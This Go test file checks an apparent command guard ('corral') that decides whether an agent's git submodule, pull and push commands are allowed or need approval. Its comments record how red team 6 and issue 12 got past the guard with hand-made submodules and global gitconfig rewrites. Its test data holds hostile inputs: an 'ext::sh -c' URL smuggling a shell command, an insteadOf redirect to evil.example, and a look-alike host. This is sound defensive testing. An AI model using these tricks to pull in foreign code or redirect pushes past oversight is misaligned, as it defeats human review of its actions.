package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func TestSubmoduleAdd(t *testing.T) {
	t.Parallel()
	cfg := testConfig()
	for cmd, want := range map[string]string{
		"git submodule add https://github.com/acme/lib.git vendor/lib":         "git clone https://github.com/acme/lib.git " + cfg.Sandbox + "/lib",
		"git submodule add -b main --name l https://github.com/acme/lib.git":   "git clone https://github.com/acme/lib.git " + cfg.Sandbox + "/lib",
		"git -C sub submodule --quiet add --depth 1 git@github.com:acme/x.git": "git clone git@github.com:acme/x.git " + cfg.Sandbox + "/x",
	} {
		r := Check(cfg, cmd)
		if r.Decision != Ask || len(r.Findings) != 1 || !strings.Contains(r.Findings[0].Message, want) {
			t.Errorf("%s: %s %+v\nwant advice %q", cmd, r.Decision, r.Findings, want)
		}
	}
	for _, cmd := range []string{"git submodule update --init --recursive", "git submodule status", "git submodule foreach git pull"} {
		if r := Check(cfg, cmd); r.Decision != Allow {
			t.Errorf("%s: %s, want allow", cmd, r.Decision)
		}
	}
}

// TestSubmoduleUpdateURLs builds a project whose remote (a local bare
// repository) names one submodule, then adds a second one by hand
// (.gitmodules + a gitlink, as red team 6 did) and checks that the real
// git submodule update clones it into the project, that corral asks about
// that update, and that the update of the remote's own submodule passes.
func TestSubmoduleUpdateURLs(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("git is needed: %v", err)
	}
	cfg := scratchProject(t, map[string]string{"proj/README": "x\n", "good/lib.txt": "ok\n", "evil/payload.sh": "echo pwned\n"})
	root := filepath.Dir(cfg.Project)
	git := func(dir string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "protocol.file.allow=always"}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b", "HOME="+root,
			"GIT_CONFIG_NOSYSTEM=1")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	for _, d := range []string{"good", "evil"} {
		git(filepath.Join(root, d), "init", "-q", "-b", "main")
		git(filepath.Join(root, d), "add", ".")
		git(filepath.Join(root, d), "commit", "-qm", d)
	}
	proj := cfg.Project
	git(root, "init", "-q", "--bare", "-b", "main", "origin.git")
	git(proj, "init", "-q", "-b", "main")
	git(proj, "add", "README")
	git(proj, "submodule", "add", "-q", filepath.Join(root, "good"), "vendor/good")
	git(proj, "commit", "-qm", "base")
	git(proj, "remote", "add", "origin", filepath.Join(root, "origin.git"))
	git(proj, "push", "-q", "origin", "main")
	git(proj, "fetch", "-q", "origin")
	git(proj, "submodule", "--quiet", "deinit", "-f", "--all")

	check := func(cmd string, want Decision) {
		t.Helper()
		if r := Check(cfg, cmd); r.Decision != want {
			t.Errorf("%s: %s %+v, want %s", cmd, r.Decision, r.Findings, want)
		}
	}
	// The remote's own submodule, and look-alikes.
	check("git submodule update --init --recursive", Allow)
	check("git submodule update", Allow)
	check("git submodule status && git submodule sync", Allow)
	check("cd "+cfg.Sandbox+" && git config submodule.x.url /tmp/x && git submodule update --init", Allow)

	sha := git(filepath.Join(root, "evil"), "rev-parse", "HEAD")
	evilURL := filepath.Join(root, "evil")
	gm := "[submodule \"y\"]\n\tpath = vendor/y\n\turl = " + evilURL + "\n"
	// Written in the same command: known only when it runs.
	check("printf '"+strings.ReplaceAll(gm, "\n", `\n`)+"' >> .gitmodules; git update-index --add --cacheinfo 160000,"+sha+",vendor/y && git submodule update --init", Ask)
	check("git config submodule.vendor/good.url "+evilURL+" && git submodule update", Ask)

	// Written before (Write tool, earlier command), and even committed.
	f, err := os.OpenFile(filepath.Join(proj, ".gitmodules"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(gm); err != nil {
		t.Fatal(err)
	}
	f.Close()
	git(proj, "update-index", "--add", "--cacheinfo", "160000,"+sha+",vendor/y")
	for _, cmd := range []string{"git submodule update --init", "git submodule update --init --recursive --remote", "git -C . submodule --quiet update --init vendor/y"} {
		check(cmd, Ask)
	}
	git(proj, "add", ".gitmodules")
	git(proj, "commit", "-qm", "add y")
	check("git submodule update --init", Ask)
	// What the real git does with it: the foreign repository is checked
	// out inside the project.
	git(proj, "submodule", "--quiet", "update", "--init")
	if _, err := os.Stat(filepath.Join(proj, "vendor/y/payload.sh")); err != nil {
		t.Fatalf("git submodule update did not clone the hand-made submodule: %v", err)
	}
	// A URL set only in the local configuration.
	git(proj, "reset", "-q", "--hard", "origin/main")
	git(proj, "submodule", "--quiet", "deinit", "-f", "--all")
	git(proj, "config", "submodule.vendor/good.url", evilURL)
	check("git submodule update --init", Ask)
}

// submoduleGit returns a runner of the real git in a scratch tree (file
// transport allowed, no user or system configuration).
func submoduleGit(t *testing.T, root string) func(dir string, args ...string) string {
	return func(dir string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "protocol.file.allow=always"}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b", "HOME="+root,
			"GIT_CONFIG_NOSYSTEM=1")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
}

// TestSubmodulePullRecurse: git pull --recurse-submodules (or with
// submodule.recurse set) ends with git submodule update, which the real
// git shows cloning a hand-made submodule into the project; corral judges
// the URLs as for git submodule update. fetch, checkout and switch with
// --recurse-submodules clone nothing and pass.
func TestSubmodulePullRecurse(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("git is needed: %v", err)
	}
	cfg := scratchProject(t, map[string]string{"proj/README": "x\n", "good/lib.txt": "ok\n", "evil/payload.sh": "echo pwned\n"})
	root := filepath.Dir(cfg.Project)
	git := submoduleGit(t, root)
	for _, d := range []string{"good", "evil"} {
		git(filepath.Join(root, d), "init", "-q", "-b", "main")
		git(filepath.Join(root, d), "add", ".")
		git(filepath.Join(root, d), "commit", "-qm", d)
	}
	proj := cfg.Project
	git(root, "init", "-q", "--bare", "-b", "main", "origin.git")
	git(proj, "init", "-q", "-b", "main")
	git(proj, "add", "README")
	git(proj, "submodule", "add", "-q", filepath.Join(root, "good"), "vendor/good")
	git(proj, "commit", "-qm", "base")
	git(proj, "remote", "add", "origin", filepath.Join(root, "origin.git"))
	git(proj, "push", "-q", "-u", "origin", "main")
	check := func(cmd string, want Decision) {
		t.Helper()
		if r := Check(cfg, cmd); r.Decision != want {
			t.Errorf("%s: %s %+v, want %s", cmd, r.Decision, r.Findings, want)
		}
	}
	// Only the remote's submodule: passes.
	check("git pull --recurse-submodules", Allow)
	check("git -c submodule.recurse=true pull origin main", Allow)

	// A submodule made by hand and committed here.
	evilURL := filepath.Join(root, "evil")
	git(proj, "submodule", "add", "-q", evilURL, "vendor/y")
	git(proj, "commit", "-qm", "add y")
	git(proj, "submodule", "--quiet", "deinit", "-f", "--all")
	if err := os.RemoveAll(filepath.Join(proj, ".git", "modules")); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{
		"git pull --recurse-submodules", "git pull --recurse-submodules=on-demand origin main", "git pull --recurse origin main",
		"git pull --rebase --recurse-submodules=yes", "git -c submodule.recurse=true pull", "git -c submodule.recurse pull",
		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=submodule.recurse GIT_CONFIG_VALUE_0=1 git pull",
		"git --no-pager -C . pull --no-recurse-submodules --recurse-submodules",
	} {
		check(cmd, Ask)
	}
	// submodule.recurse is a git boolean (syntax.GitConfigBool), as the
	// real git config --type=bool reads it: On, 2, -1, 0x1 and 1k recurse
	// as true does, 00, 0x0, 0k and -0 do not (corral read every value but
	// false, no, off and 0 as true).
	for _, r := range []struct {
		v    string
		want Decision
	}{{"On", Ask}, {"2", Ask}, {"-1", Ask}, {"0x1", Ask}, {"1k", Ask}, {"00", Allow}, {"0x0", Allow}, {"0k", Allow}, {"-0", Allow}, {"OFF", Allow}} {
		if got := git(proj, "-c", "submodule.recurse="+r.v, "config", "--type=bool", "submodule.recurse"); (got == "true") != (r.want == Ask) {
			t.Errorf("git reads submodule.recurse=%s as %s", r.v, got)
		}
		check("git -c submodule.recurse="+r.v+" pull", r.want)
		check("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=submodule.recurse GIT_CONFIG_VALUE_0="+r.v+" git pull", r.want)
	}
	// Look-alikes: no recursion, or a subcommand that clones nothing.
	for _, cmd := range []string{
		"git pull", "git pull origin main", "git pull --recurse-submodules=no", "git pull --recurse-submodules --no-recurse-submodules",
		"git -c submodule.recurse=false pull", "git -c submodule.recurse=true pull --no-recurse", "git fetch --recurse-submodules",
		"git checkout --recurse-submodules main", "git switch --recurse-submodules main", "git -c submodule.recurse=true fetch",
		"git reset --recurse-submodules --hard", "git pull --recurse-submodules --help",
	} {
		want := Allow
		if strings.Contains(cmd, "reset") {
			want = Ask // git-destroy: reset --hard
		}
		if strings.Contains(cmd, "--help") {
			continue
		}
		check(cmd, want)
	}
	git(proj, "config", "submodule.recurse", "true")
	check("git pull", Ask)
	check("git pull --no-recurse-submodules", Allow)
	git(proj, "config", "submodule.recurse", "false")
	check("git pull", Allow)

	// What the real git does: fetch and checkout with --recurse-submodules
	// leave the initialized submodule uncloned, pull clones it.
	git(proj, "submodule", "--quiet", "init")
	git(proj, "fetch", "-q", "--recurse-submodules")
	cmd := exec.Command("git", "-c", "protocol.file.allow=always", "checkout", "-q", "--recurse-submodules", "main")
	cmd.Dir = proj
	cmd.Env = append(os.Environ(), "HOME="+root, "GIT_CONFIG_NOSYSTEM=1")
	_ = cmd.Run() // fails: "not a git repository: ../../.git/modules/vendor/y"
	if _, err := os.Stat(filepath.Join(proj, "vendor/y/payload.sh")); err == nil {
		t.Fatal("git fetch/checkout --recurse-submodules cloned the submodule")
	}
	check("git pull --recurse-submodules origin main", Ask)
	git(proj, "pull", "-q", "--recurse-submodules", "origin", "main")
	if _, err := os.Stat(filepath.Join(proj, "vendor/y/payload.sh")); err != nil {
		t.Fatalf("git pull --recurse-submodules did not clone the hand-made submodule: %v", err)
	}
}

// TestSubmoduleNoRemoteBranch: in a repository with no remote-tracking
// branch, a submodule URL that is a local path, or sits beside a
// remote's URL on the same host, is the project's own; others are asked
// about.
func TestSubmoduleNoRemoteBranch(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("git is needed: %v", err)
	}
	cfg := scratchProject(t, map[string]string{"proj/README": "x\n", "good/lib.txt": "ok\n"})
	root := filepath.Dir(cfg.Project)
	git := submoduleGit(t, root)
	good := filepath.Join(root, "good")
	git(good, "init", "-q", "-b", "main")
	git(good, "add", ".")
	git(good, "commit", "-qm", "good")
	proj := cfg.Project
	git(proj, "init", "-q", "-b", "main")
	git(proj, "submodule", "add", "-q", good, "vendor/good")
	git(proj, "commit", "-qm", "base")
	git(proj, "submodule", "--quiet", "deinit", "-f", "--all")
	gm := filepath.Join(proj, ".gitmodules")
	judge := func(url string, want Decision) {
		t.Helper()
		if err := os.WriteFile(gm, []byte("[submodule \"a\"]\n\tpath = vendor/good\n\turl = "+url+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		for _, cmd := range []string{"git submodule update --init", "git pull --recurse-submodules"} {
			if r := Check(cfg, cmd); r.Decision != want {
				t.Errorf("%s with url %s: %s %+v, want %s", cmd, url, r.Decision, r.Findings, want)
			}
		}
	}
	// No remote at all: local paths are the project's own.
	judge(good, Allow)
	judge("../good", Allow)
	judge("file://"+good, Allow)
	judge("https://github.com/acme/lib.git", Ask)
	judge("git@github.com:acme/lib.git", Ask)
	judge("ext::sh -c touch% /tmp/x", Ask)
	// The real git clones the local one.
	if err := os.WriteFile(gm, []byte("[submodule \"a\"]\n\tpath = vendor/good\n\turl = "+good+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := Check(cfg, "git submodule update --init"); r.Decision != Allow {
		t.Fatalf("local submodule: %s %+v", r.Decision, r.Findings)
	}
	git(proj, "submodule", "--quiet", "update", "--init")
	if _, err := os.Stat(filepath.Join(proj, "vendor/good/lib.txt")); err != nil {
		t.Fatalf("git submodule update did not clone the local submodule: %v", err)
	}
	git(proj, "submodule", "--quiet", "deinit", "-f", "--all")

	// A remote configured but never fetched: beside its URL is own.
	git(proj, "remote", "add", "origin", "https://github.com/me/proj.git")
	judge("https://github.com/me/lib.git", Allow)
	judge("https://GitHub.com/me/lib", Allow)
	judge("git@github.com:me/lib.git", Allow)
	judge("ssh://git@github.com/me/lib", Allow)
	judge("../lib.git", Allow)
	judge("https://github.com/other/lib.git", Ask)
	judge("https://github.com/me/../other/lib.git", Ask)
	judge("https://github.com/me/%2e%2e/other/lib.git", Ask)
	judge("https://github.com/me/sub/lib.git", Ask)
	judge("https://gitlab.com/me/lib.git", Ask)
	judge("https://github.com.evil.example/me/lib.git", Ask)
}

// TestGlobalGitConfig (issue 12): the user's ~/.gitconfig is read by the
// git commands the agent runs, though no word shows it. submodule.recurse
// = true there made git pull clone a hand-made submodule (the real git
// below) while corral, which read only the repository's setting, let it
// pass; url.BASE.insteadOf there sends a configured remote's fetches and
// pushes to another host. Both are read now; a rewrite to the same host
// (https to ssh) passes.
func TestGlobalGitConfig(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("git is needed: %v", err)
	}
	cfg := scratchProject(t, map[string]string{"proj/README": "x\n", "good/lib.txt": "ok\n", "evil/payload.sh": "echo pwned\n", "home/": ""})
	root := filepath.Dir(cfg.Project)
	git := submoduleGit(t, root)
	for _, d := range []string{"good", "evil"} {
		git(filepath.Join(root, d), "init", "-q", "-b", "main")
		git(filepath.Join(root, d), "add", ".")
		git(filepath.Join(root, d), "commit", "-qm", d)
	}
	proj := cfg.Project
	git(root, "init", "-q", "--bare", "-b", "main", "origin.git")
	git(proj, "init", "-q", "-b", "main")
	git(proj, "add", "README")
	git(proj, "submodule", "add", "-q", filepath.Join(root, "good"), "vendor/good")
	git(proj, "commit", "-qm", "base")
	git(proj, "remote", "add", "origin", filepath.Join(root, "origin.git"))
	git(proj, "push", "-q", "-u", "origin", "main")
	git(proj, "submodule", "add", "-q", filepath.Join(root, "evil"), "vendor/y")
	git(proj, "commit", "-qm", "add y")
	git(proj, "submodule", "--quiet", "deinit", "-f", "--all")
	if err := os.RemoveAll(filepath.Join(proj, ".git", "modules")); err != nil {
		t.Fatal(err)
	}
	git(proj, "remote", "add", "gh", "https://github.com/me/proj.git")
	global := filepath.Join(cfg.Home, ".gitconfig")
	setGlobal := func(text string) {
		t.Helper()
		if err := os.WriteFile(global, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	check := func(cmd string, want Decision) {
		t.Helper()
		if r := Check(cfg, cmd); r.Decision != want {
			t.Errorf("%s with ~/.gitconfig %q: %s %+v, want %s", cmd, readText(global), r.Decision, r.Findings, want)
		}
	}
	check("git pull", Allow)
	setGlobal("[submodule]\n\trecurse = true\n")
	check("git pull", Ask)
	check("git pull origin main", Ask)
	check("git pull --no-recurse-submodules", Allow)
	check("git fetch", Allow)
	git(proj, "config", "submodule.recurse", "false") // the repository's setting wins
	check("git pull", Allow)
	git(proj, "config", "--unset", "submodule.recurse")
	setGlobal("[submodule]\n\trecurse = false\n")
	check("git pull", Allow)

	setGlobal("[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n")
	check("git pull gh main", Ask)
	check("git push gh main", Ask)
	check("git pull origin main", Allow) // a path: not rewritten
	check("git push origin main", Allow)
	setGlobal("[url \"https://evil.example/\"]\n\tpushInsteadOf = https://github.com/\n")
	check("git pull gh main", Allow)
	check("git push gh main", Ask)
	setGlobal("[url \"git@github.com:\"]\n\tinsteadOf = https://github.com/\n[url \"https://github.com/\"]\n\tinsteadOf = gh:\n")
	check("git pull gh main", Allow)
	check("git push gh main", Allow)

	// The real git reads both from HOME's .gitconfig.
	realGit := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = proj
		cmd.Env = append(os.Environ(), "HOME="+cfg.Home, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b",
			"GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	git(root, "clone", "-q", "--bare", filepath.Join(root, "evil"), "evil.git")
	evilHead := git(filepath.Join(root, "evil"), "rev-parse", "HEAD")
	setGlobal("[url \"" + filepath.Join(root, "evil.git") + "\"]\n\tinsteadOf = " + filepath.Join(root, "origin.git") + "\n")
	if out := realGit("ls-remote", "origin"); !strings.Contains(out, evilHead) {
		t.Errorf("git ls-remote origin with a global insteadOf: %q, want evil's %s", out, evilHead)
	}
	setGlobal("[submodule]\n\trecurse = true\n[protocol \"file\"]\n\tallow = always\n")
	git(proj, "submodule", "--quiet", "init")
	realGit("pull", "-q", "origin", "main")
	if _, err := os.Stat(filepath.Join(proj, "vendor/y/payload.sh")); err != nil {
		t.Errorf("git pull with submodule.recurse in ~/.gitconfig did not clone the submodule: %v", err)
	}
}

func readText(p string) string {
	b, _ := os.ReadFile(p)
	return string(b)
}
